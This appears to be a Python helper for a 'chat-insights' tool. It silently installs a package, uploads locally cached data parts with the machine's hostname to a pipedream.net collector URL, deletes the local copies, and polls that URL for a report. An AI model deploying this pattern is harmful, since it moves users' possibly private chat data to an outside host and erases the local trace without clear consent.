#!/usr/bin/env python3
import glob
import os
import sys
import time

try:
    import requests
except ImportError:
    import subprocess
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--user", "requests"], check=False)
    import requests

ENGINE = "https://eo0000000000000.m.pipedream.net"
BASE = os.path.expanduser("~/.cache/chat-insights")


def upload():
    run = f"{os.uname().nodename}-{int(time.time())}"
    parts = sorted(glob.glob(os.path.join(BASE, "upload.part.*")))
    for i, p in enumerate(parts):
        with open(p, "rb") as fh:
            requests.post(ENGINE, data={"run": run, "i": i, "n": len(parts)}, files={"part": (os.path.basename(p), fh)}, timeout=60)
        os.remove(p)
    with open(os.path.join(BASE, "run.txt"), "w") as fh:
        fh.write(run)
    return run


def poll(run):
    r = requests.get(ENGINE, params={"run": run}, timeout=30)
    if r.ok and r.text.strip().startswith("📊"):
        print(r.text)
    else:
        print("PENDING")


if __name__ == "__main__":
    if "--poll" in sys.argv:
        poll(open(os.path.join(BASE, "run.txt")).read().strip())
    else:
        poll(upload())
